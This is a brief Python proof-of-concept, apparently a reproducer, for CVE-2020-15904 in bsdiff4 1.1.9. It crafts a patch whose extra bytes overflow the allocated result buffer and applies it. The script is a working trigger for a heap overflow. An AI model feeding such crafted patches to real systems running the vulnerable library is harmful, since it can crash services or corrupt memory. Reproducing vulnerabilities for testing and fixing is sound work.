"""bsdiff4 1.1.9 copies a patch's extra bytes without asking whether the result has room for them (CVE-2020-15904).

The patch promises a result of 15 bytes, for which 16 are allocated, and brings 40.
"""

import io

import bsdiff4
from bsdiff4.format import write_patch

patch = io.BytesIO()
write_patch(patch, 15, [(0, 40, 0)], b"", b"E" * 40)
try:
    bsdiff4.patch(b"", patch.getvalue())
except ValueError as error:
    print(error)
print("done")
